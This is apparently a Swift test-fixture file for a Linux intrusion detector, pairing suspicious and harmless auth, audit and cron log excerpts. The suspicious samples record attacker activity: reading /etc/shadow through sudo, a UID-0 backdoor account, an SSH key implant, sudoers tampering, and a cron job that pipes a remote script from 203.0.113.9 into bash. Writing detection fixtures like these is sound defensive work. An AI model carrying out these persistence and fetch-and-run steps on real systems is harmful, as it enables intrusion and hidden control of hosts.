extension RiskExcerpt {
  static let rights: [RiskExcerpt] = [
    .init(
      risk: "sudo-abuse", source: "auth",
      raises: #"""
        2026-05-11T07:00:12+00:00 web1 sudo:     joel : command not allowed ; TTY=pts/2 ; PWD=/home/joel ; USER=root ; COMMAND=/usr/bin/cat /etc/shadow
        2026-05-11T07:00:31+00:00 web1 sudo:     joel : command not allowed ; TTY=pts/2 ; PWD=/home/joel ; USER=root ; COMMAND=/bin/bash
        """#,
      // A command that the rules grant.
      harmless: #"""
        2026-05-11T07:00:12+00:00 web1 sudo:     joel : TTY=pts/2 ; PWD=/home/joel ; USER=root ; COMMAND=/usr/bin/systemctl status nginx
        2026-05-11T07:00:12+00:00 web1 sudo: pam_unix(sudo:session): session opened for user root(uid=0) by joel(uid=1002)
        2026-05-11T07:00:13+00:00 web1 sudo: pam_unix(sudo:session): session closed for user root
        """#),
    .init(
      risk: "su-abuse", source: "auth",
      raises: #"""
        2026-05-11T07:10:02+00:00 web1 su[5100]: pam_unix(su:auth): authentication failure; logname=joel uid=1002 euid=0 tty=/dev/pts/2 ruser=joel rhost=  user=root
        2026-05-11T07:10:04+00:00 web1 su[5100]: FAILED SU (to root) joel on pts/2
        """#,
      // An administrator who changes to the account of a database.
      harmless: #"""
        2026-05-11T07:10:04+00:00 web1 su[5100]: (to postgres) root on pts/2
        2026-05-11T07:10:04+00:00 web1 su[5100]: pam_unix(su:session): session opened for user postgres(uid=112) by mira(uid=0)
        2026-05-11T07:16:40+00:00 web1 su[5100]: pam_unix(su:session): session closed for user postgres
        """#),
    .init(
      risk: "account-lockout", source: "auth",
      raises: #"""
        2026-05-11T07:13:01+00:00 web1 sshd[5201]: Failed password for joel from 192.0.2.44 port 41020 ssh2
        2026-05-11T07:13:09+00:00 web1 sshd[5201]: Failed password for joel from 192.0.2.44 port 41020 ssh2
        2026-05-11T07:13:17+00:00 web1 sshd[5201]: pam_faillock(sshd:auth): Consecutive login failures for user joel account temporarily locked
        2026-05-11T07:13:18+00:00 web1 sshd[5201]: Failed password for joel from 192.0.2.44 port 41020 ssh2
        """#,
      // The third try is right.
      harmless: #"""
        2026-05-11T07:13:01+00:00 web1 sshd[5201]: Failed password for joel from 192.0.2.44 port 41020 ssh2
        2026-05-11T07:13:09+00:00 web1 sshd[5201]: Failed password for joel from 192.0.2.44 port 41020 ssh2
        2026-05-11T07:13:18+00:00 web1 sshd[5201]: Accepted password for joel from 192.0.2.44 port 41020 ssh2
        """#),
    .init(
      risk: "rogue-account", source: "auth",
      raises: #"""
        2026-05-11T03:20:10+00:00 web1 useradd[6101]: new user: name=sysd, UID=0, GID=0, home=/root, shell=/bin/bash, from=/dev/pts/1
        2026-05-11T03:20:21+00:00 web1 passwd[6103]: pam_unix(passwd:chauthtok): password changed for sysd
        """#,
      // A new group for an account that is there.
      harmless: #"""
        2026-05-11T09:20:10+00:00 web1 groupadd[6101]: group added to /etc/group: name=deploy, GID=1012
        2026-05-11T09:20:10+00:00 web1 groupadd[6101]: group added to /etc/gshadow: name=deploy
        2026-05-11T09:20:10+00:00 web1 groupadd[6101]: new group: name=deploy, GID=1012
        2026-05-11T09:20:21+00:00 web1 usermod[6103]: add 'mira' to group 'deploy'
        """#),
    .init(
      risk: "privilege-grant", source: "auth",
      raises: #"""
        2026-05-11T08:02:00+00:00 web1 usermod[6112]: add 'joel' to group 'sudo'
        2026-05-11T08:02:00+00:00 web1 usermod[6112]: add 'joel' to shadow group 'sudo'
        """#,
      // A group without power.
      harmless: #"""
        2026-05-11T08:02:00+00:00 web1 usermod[6112]: add 'joel' to group 'www-authors'
        2026-05-11T08:02:00+00:00 web1 usermod[6112]: add 'joel' to shadow group 'www-authors'
        """#),
    .init(
      risk: "credential-change", source: "auth",
      raises: #"""
        2026-05-11T08:05:00+00:00 web1 passwd[6010]: pam_unix(passwd:chauthtok): password changed for root
        2026-05-11T08:05:41+00:00 web1 userdel[6016]: delete user 'nora'
        """#,
      // Somebody changes the own password.
      harmless: #"""
        2026-05-11T08:05:00+00:00 web1 passwd[6010]: pam_unix(passwd:chauthtok): password changed for joel
        2026-05-11T08:05:41+00:00 web1 chage[6016]: changed password expiry for joel
        """#),
    .init(
      risk: "ssh-key-implant", source: "audit",
      raises: #"""
        type=SYSCALL msg=audit(1778481711.120:9360): arch=c000003e syscall=257 success=yes exit=3 a0=ffffff9c a1=7ffd10 a2=441 a3=1b6 items=2 ppid=911 pid=7830 auid=1001 uid=0 gid=0 euid=0 suid=0 fsuid=0 egid=0 sgid=0 fsgid=0 tty=pts0 ses=7 comm="sh" exe="/usr/bin/dash" subj=unconfined key="ssh-keys"
        type=CWD msg=audit(1778481711.120:9360): cwd="/root"
        type=PATH msg=audit(1778481711.120:9360): item=0 name="/root/.ssh/" inode=12 dev=fe:01 mode=040755 ouid=0 ogid=0 rdev=00:00 nametype=PARENT
        type=PATH msg=audit(1778481711.120:9360): item=1 name="/root/.ssh/authorized_keys" inode=1312 dev=fe:01 mode=0100644 ouid=0 ogid=0 rdev=00:00 nametype=CREATE
        type=PROCTITLE msg=audit(1778481711.120:9360): proctitle=7368002D6300636174202F746D702F6B203E3E202F726F6F742F2E7373682F617574686F72697A65645F6B657973
        """#,
      // ssh remembers a host that it meets for the first time.
      harmless: #"""
        type=SYSCALL msg=audit(1778481711.120:9360): arch=c000003e syscall=257 success=yes exit=3 a0=ffffff9c a1=7ffd10 a2=442 a3=1b6 items=2 ppid=911 pid=7830 auid=1001 uid=0 gid=0 euid=0 suid=0 fsuid=0 egid=0 sgid=0 fsgid=0 tty=pts0 ses=7 comm="ssh" exe="/usr/bin/ssh" subj=unconfined key="ssh-keys"
        type=CWD msg=audit(1778481711.120:9360): cwd="/root"
        type=PATH msg=audit(1778481711.120:9360): item=0 name="/root/.ssh/" inode=12 dev=fe:01 mode=040755 ouid=0 ogid=0 rdev=00:00 nametype=PARENT
        type=PATH msg=audit(1778481711.120:9360): item=1 name="/root/.ssh/known_hosts" inode=1312 dev=fe:01 mode=0100644 ouid=0 ogid=0 rdev=00:00 nametype=CREATE
        type=PROCTITLE msg=audit(1778481711.120:9360): proctitle=737368006D697261403139322E302E322E3230
        """#),
    .init(
      risk: "sudoers-tamper", source: "audit",
      raises: #"""
        type=SYSCALL msg=audit(1778481721.314:9521): arch=c000003e syscall=257 success=yes exit=3 a0=ffffff9c a1=7ffd10 a2=241 a3=1b6 items=2 ppid=911 pid=7830 auid=1001 uid=0 gid=0 euid=0 suid=0 fsuid=0 egid=0 sgid=0 fsgid=0 tty=pts0 ses=7 comm="tee" exe="/usr/bin/tee" subj=unconfined key="actions"
        type=CWD msg=audit(1778481721.314:9521): cwd="/root"
        type=PATH msg=audit(1778481721.314:9521): item=0 name="/etc/sudoers.d/" inode=12 dev=fe:01 mode=040755 ouid=0 ogid=0 rdev=00:00 nametype=PARENT
        type=PATH msg=audit(1778481721.314:9521): item=1 name="/etc/sudoers.d/joel" inode=1312 dev=fe:01 mode=0100644 ouid=0 ogid=0 rdev=00:00 nametype=CREATE
        type=PROCTITLE msg=audit(1778481721.314:9521): proctitle=746565002F6574632F7375646F6572732E642F6A6F656C
        """#,
      // An update by dpkg.
      harmless: #"""
        type=SYSCALL msg=audit(1778481721.314:9521): arch=c000003e syscall=257 success=yes exit=3 a0=ffffff9c a1=7ffd10 a2=c1 a3=1b6 items=2 ppid=911 pid=7830 auid=1001 uid=0 gid=0 euid=0 suid=0 fsuid=0 egid=0 sgid=0 fsgid=0 tty=pts0 ses=7 comm="dpkg" exe="/usr/bin/dpkg" subj=unconfined key="actions"
        type=CWD msg=audit(1778481721.314:9521): cwd="/"
        type=PATH msg=audit(1778481721.314:9521): item=0 name="/etc/sudoers.d/" inode=12 dev=fe:01 mode=040755 ouid=0 ogid=0 rdev=00:00 nametype=PARENT
        type=PATH msg=audit(1778481721.314:9521): item=1 name="/etc/sudoers.d/README.dpkg-new" inode=1312 dev=fe:01 mode=0100644 ouid=0 ogid=0 rdev=00:00 nametype=CREATE
        type=PROCTITLE msg=audit(1778481721.314:9521): proctitle=2F7573722F62696E2F64706B67002D2D756E7061636B007375646F2E646562
        """#),
    .init(
      risk: "scheduled-task-implant", source: "system",
      raises: #"""
        2026-05-11T09:01:12+00:00 web1 crontab[6202]: (www-data) REPLACE (www-data)
        2026-05-11T09:02:01+00:00 web1 cron[590]: (www-data) RELOAD (crontabs/www-data)
        2026-05-11T09:05:01+00:00 web1 CRON[6231]: (www-data) CMD (curl -fsSL http://203.0.113.9/i.sh | bash >/dev/null 2>&1)
        """#,
      // The list is only shown, and what is fetched goes nowhere.
      harmless: #"""
        2026-05-11T09:01:12+00:00 web1 crontab[6202]: (www-data) LIST (www-data)
        2026-05-11T09:05:01+00:00 web1 CRON[6231]: (www-data) CMD (curl -fsS http://192.0.2.30/ping >/dev/null 2>&1)
        2026-05-11T09:09:01+00:00 web1 CRON[6240]: (root) CMD (  [ -x /usr/lib/php/sessionclean ] && if [ ! -d /run/systemd/system ]; then /usr/lib/php/sessionclean; fi)
        """#),
    .init(
      risk: "service-implant", source: "audit",
      raises: #"""
        type=SYSCALL msg=audit(1778481731.507:9541): arch=c000003e syscall=257 success=yes exit=3 a0=ffffff9c a1=7ffd10 a2=241 a3=1b6 items=2 ppid=911 pid=7830 auid=1001 uid=0 gid=0 euid=0 suid=0 fsuid=0 egid=0 sgid=0 fsgid=0 tty=pts0 ses=7 comm="vim.basic" exe="/usr/bin/vim.basic" subj=unconfined key="systemd-units"
        type=CWD msg=audit(1778481731.507:9541): cwd="/root"
        type=PATH msg=audit(1778481731.507:9541): item=0 name="/etc/systemd/system/" inode=12 dev=fe:01 mode=040755 ouid=0 ogid=0 rdev=00:00 nametype=PARENT
        type=PATH msg=audit(1778481731.507:9541): item=1 name="/etc/systemd/system/dbus-helper.service" inode=1312 dev=fe:01 mode=0100644 ouid=0 ogid=0 rdev=00:00 nametype=CREATE
        type=PROCTITLE msg=audit(1778481731.507:9541): proctitle=76696D002F6574632F73797374656D642F73797374656D2F646275732D68656C7065722E73657276696365
        """#,
      // An update by dpkg.
      harmless: #"""
        type=SYSCALL msg=audit(1778481731.507:9541): arch=c000003e syscall=257 success=yes exit=3 a0=ffffff9c a1=7ffd10 a2=c1 a3=1b6 items=2 ppid=911 pid=7830 auid=1001 uid=0 gid=0 euid=0 suid=0 fsuid=0 egid=0 sgid=0 fsgid=0 tty=pts0 ses=7 comm="dpkg" exe="/usr/bin/dpkg" subj=unconfined key="systemd-units"
        type=CWD msg=audit(1778481731.507:9541): cwd="/"
        type=PATH msg=audit(1778481731.507:9541): item=0 name="/usr/lib/systemd/system/" inode=12 dev=fe:01 mode=040755 ouid=0 ogid=0 rdev=00:00 nametype=PARENT
        type=PATH msg=audit(1778481731.507:9541): item=1 name="/usr/lib/systemd/system/nginx.service.dpkg-new" inode=1312 dev=fe:01 mode=0100644 ouid=0 ogid=0 rdev=00:00 nametype=CREATE
        type=PROCTITLE msg=audit(1778481731.507:9541): proctitle=2F7573722F62696E2F64706B67002D2D756E7061636B006E67696E782E646562
        """#),
  ]
}
